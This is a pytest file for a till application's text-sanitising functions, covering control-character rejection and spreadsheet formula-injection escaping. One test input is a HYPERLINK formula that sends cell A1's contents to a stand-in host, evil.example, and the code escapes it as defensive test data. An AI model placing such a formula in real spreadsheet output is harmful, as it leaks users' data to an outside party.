"""Free text at the door and in spreadsheets (opentill.common.text)."""

from __future__ import annotations

import pytest

from opentill.common.text import TextError, cell_text, check_text, printable


@pytest.mark.parametrize("text", ["Till short", "Café De Hoek", "€ 12,30 — ok", ""])
def test_ordinary_text_passes_the_door_unchanged(text):
    assert check_text(text) == text
    assert check_text(text, multiline=True) == text


@pytest.mark.parametrize(
    ("text", "code", "position"),
    [("ring\x07", "0007", 4), ("\x00", "0000", 0), ("a\x1bb", "001B", 1), ("x\x85", "0085", 1)],
)
def test_control_characters_are_refused_and_named(text, code, position):
    with pytest.raises(TextError, match=f"U\\+{code} at position {position}"):
        check_text(text, multiline=True)


def test_newline_and_tab_only_in_multiline_text():
    assert check_text("line 1\r\nline 2\tend", multiline=True) == "line 1\r\nline 2\tend"
    with pytest.raises(TextError, match="U\\+000A"):
        check_text("line 1\nline 2")
    with pytest.raises(TextError, match="U\\+0009"):
        check_text("a\tb")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        ),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("plain = text", "plain = text"),
        ("Café", "Café"),
    ],
)
def test_cells_never_start_a_formula(text, cell):
    assert cell_text(text) == cell


def test_characters_a_spreadsheet_cannot_store_are_replaced():
    assert printable("bell\x07 nul\x00 ok\n\t") == "bell\ufffd nul\ufffd ok\n\t"
    assert cell_text("\x07=1") == "\ufffd=1"
